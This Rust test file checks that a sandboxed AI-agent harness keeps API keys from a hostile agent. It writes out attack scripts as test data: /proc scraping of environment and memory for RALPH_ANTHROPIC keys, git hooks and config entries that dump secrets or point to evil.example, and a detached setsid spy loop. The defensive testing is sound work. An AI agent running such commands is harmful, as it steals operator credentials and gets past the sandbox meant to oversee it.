//! An agent that wants the secrets. The worker and the agent run as one unprivileged user without
//! capabilities, the worker as PID 1 of its own PID namespace with its own `/proc`: as in the
//! container.

use std::{os::unix::fs::PermissionsExt, process::Command};

use ralph_protocol::names::worker_env as env;
use serde_json::json;

use crate::harness::{AGENT, Done, KEY, Running, WORKER, World, progress, run_id, write};

/// What is added runs as PID 1 of a namespace, as nobody, without capabilities.
fn unprivileged() -> Command {
    let mut unshare = Command::new("unshare");
    if rustix::process::getuid().is_root() {
        unshare.args(["--pid", "--fork", "--mount-proc", "--kill-child"]);
        unshare.args(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]);
    } else {
        unshare.args(["--user", "--map-user=65534", "--map-group=65534", "--pid", "--fork"]);
        unshare.args(["--mount-proc", "--kill-child", "setpriv"]);
    }
    unshare.args(["--bounding-set=-all", "--inh-caps=-all", "--no-new-privs"]);
    unshare
}

/// Runs the world's worker as PID 1 of a namespace, as nobody.
fn contained(world: &World) -> Done {
    // Everything the user nobody must reach: the world, and the programs.
    let bin = world.path("bin");
    std::fs::create_dir(&bin).unwrap();
    for (program, name) in [(WORKER, "worker"), (AGENT, "agent")] {
        std::fs::copy(program, bin.join(name)).unwrap();
    }
    let command = world.env[env::AGENT_COMMAND].replace(AGENT, bin.join("agent").to_str().unwrap());
    let mut envs = world.env.clone();
    envs.insert(env::AGENT_COMMAND.to_owned(), command);
    if rustix::process::getuid().is_root() {
        let status =
            Command::new("chown").args(["-R", "65534:65534"]).arg(world.dir.path()).status();
        assert!(status.unwrap().success());
    }
    let mut unshare = unprivileged();
    unshare.env_clear().envs(&envs);
    unshare.arg(bin.join("worker"));
    Running::new(unshare).wait()
}

fn world() -> World {
    let world = World::new();
    let mode = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(world.dir.path(), mode).unwrap();
    world
}

/// Shows what the worker's process gives away; every line says what it tried.
const LOOK: &str = r#"
for name in environ mem maps auxv cmdline; do
  echo "== $name"; cat /proc/1/$name 2>&1 | tr '\0' '\n' | head -c 100000
done
echo "== fd"; ls -l /proc/1/fd 2>&1
for fd in 0 1 2 3 4 5 6 7 8 9; do cat /proc/1/fd/$fd 2>&1 < /dev/null | head -c 1000; done
echo "== others"; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -a -e RALPH_ANTHROPIC -e RALPH_GIT
echo "== root"; ls /proc/1/root 2>&1; ls /proc/1/cwd 2>&1
echo "== who"; id -u; grep -a -e CapEff -e NoNewPrivs /proc/self/status
ps -o pid= -p 1 >/dev/null 2>&1; tr '\0' ' ' < /proc/1/comm
true
"#;

#[test]
fn the_workers_process_gives_nothing_away() {
    let mut world = world();
    world.calls(json!([[{"run": ["sh", "-c", LOOK]}, progress(true)]]));
    // The harness fails on any line that holds a secret; but a secret would be redacted there, so
    // the agent's own view is what counts.
    let done = contained(&world);
    assert_eq!(done.exit(), 0, "{done:#?}");
    let seen = done.of("agent.tool_result")[0]["text"].as_str().unwrap().to_owned();
    assert!(seen.contains("65534"), "not the unprivileged user: {seen}");
    assert!(seen.contains("CapEff:\t0000000000000000"), "{seen}");
    for name in ["environ", "mem", "maps", "auxv"] {
        let (_, after) = seen.split_once(&format!("== {name}\n")).unwrap();
        assert!(after.lines().next().unwrap().contains("Permission denied"), "{name}: {after}");
    }
    assert!(!seen.contains("[redacted]"), "the agent saw a secret: {seen}");
    assert!(!seen.contains("RALPH_ANTHROPIC"), "{seen}");
}

#[test]
fn the_same_look_at_an_unguarded_process_finds_the_key() {
    // Otherwise the test above could not fail.
    let script = "sh -c \"$LOOK\"; true";
    let output = unprivileged()
        .args(["sh", "-c", script])
        .env("LOOK", LOOK)
        .env("RALPH_ANTHROPIC_KEYS", KEY)
        .output()
        .unwrap();
    let seen = String::from_utf8_lossy(&output.stdout);
    assert!(seen.contains(&format!("RALPH_ANTHROPIC_KEYS={KEY}")), "{seen}");
}

/// Plants everything a repository's configuration can run, each leaving a mark when it does.
const PLANT: &str = r#"
mark=$PWD/../marks; mkdir -p $mark
evil() { printf '#!/bin/sh\n(echo %s; env; cat /proc/$PPID/environ | tr "\\0" "\\n") >> %s/%s 2>/dev/null\ncat 2>/dev/null\nexit 0\n' $1 $mark $1 > ../evil-$1; chmod +x ../evil-$1; echo $PWD/../evil-$1; }
for hook in pre-commit commit-msg post-commit prepare-commit-msg pre-push post-checkout post-rewrite reference-transaction pre-rebase post-index-change; do
  cp $(evil hook-$hook) .git/hooks/$hook
done
git config core.fsmonitor $(evil fsmonitor)
git config core.sshCommand $(evil ssh)
git config core.editor $(evil editor)
git config core.pager $(evil pager)
git config credential.helper $(evil credential)
git config filter.evil.clean $(evil clean)
git config filter.evil.smudge $(evil smudge)
git config filter.evil.required true
git config gpg.program $(evil gpg)
git config commit.gpgSign true
git config diff.external $(evil diff)
git config http.proxy http://127.0.0.1:9
git config url.https://evil.example/.insteadOf file:///
git config remote.origin.pushurl https://evil.example/x
git config remote.origin.receivepack $(evil receivepack)
git config remote.origin.uploadpack $(evil uploadpack)
git config uploadpack.packObjectsHook $(evil packobjects)
git config core.hooksPath $PWD/.git/hooks
git config core.alternateRefsCommand $(evil alternates)
echo '* filter=evil diff=evil' > .gitattributes
cp .git/config $HOME/.gitconfig; printf 'machine evil.example login x password y\n' > $HOME/.netrc
true
"#;

#[test]
fn what_the_agent_plants_in_git_never_runs_with_a_secret() {
    let mut world = world();
    world.calls(json!([
        [write("a", "1"), {"run": ["sh", "-c", PLANT]}],
        [write("b", "2")],
        [progress(true)],
    ]));
    let done = contained(&world);
    assert_eq!(done.exit(), 0, "{done:#?}");
    assert_eq!(world.file("ralph/docs", "b").as_deref(), Some("2"));
    let checkout = world.path("work").join(run_id(1));
    let ran: Vec<_> = std::fs::read_dir(checkout.join("marks"))
        .unwrap()
        .flatten()
        .map(|mark| (mark.file_name(), std::fs::read_to_string(mark.path()).unwrap_or_default()))
        .collect();
    assert!(ran.is_empty(), "these ran, and saw: {ran:#?}");
}

#[test]
fn a_process_that_waits_for_the_push_is_gone_before_it() {
    let mut world = world();
    // In its own session, re-parented, looking for git's environment all the time.
    let spy = "setsid sh -c 'while true; do cat /proc/[0-9]*/environ 2>/dev/null | tr \"\\0\" \"\\n\" | grep -a GIT_CONFIG_VALUE >> ../spied; done' >/dev/null 2>&1 &";
    world.calls(json!([[write("a", "1"), {"run": ["sh", "-c", spy]}], [progress(true)]]));
    let done = contained(&world);
    assert_eq!(done.exit(), 0, "{done:#?}");
    let spied = world.path("work").join(run_id(1)).join("spied");
    assert_eq!(std::fs::read_to_string(spied).unwrap_or_default(), "");
}
